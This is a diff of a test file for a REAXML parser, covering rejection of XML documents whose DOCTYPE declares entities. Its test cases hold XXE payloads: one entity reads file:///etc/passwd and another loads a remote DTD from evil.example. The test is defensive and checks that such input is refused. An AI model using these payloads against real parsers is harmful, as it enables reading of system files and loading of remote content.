@@ -146,7 +146,7 @@ describe('what is not REAXML is rejected whole', () => {
     ['an external entity', '[<!ENTITY x SYSTEM "file:///etc/passwd">]'],
     ['a parameter entity', '[<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]'],
     ['one in small letters', '[<!entity b "c">]'],
-    ['one in a comment', "[<!-- ' --><!ENTITY a 'x'>]"],
+    ['one behind a comment', "[<!-- ' --><!ENTITY a SYSTEM 'x'>]"],
   ])('%s', async (_, subset) => {
     const xml = `<?xml version="1.0"?><!DOCTYPE propertyList ${subset}>${list(headline('&x;&b;'))}`;
     expect(await readAll(xml)).toMatchObject([
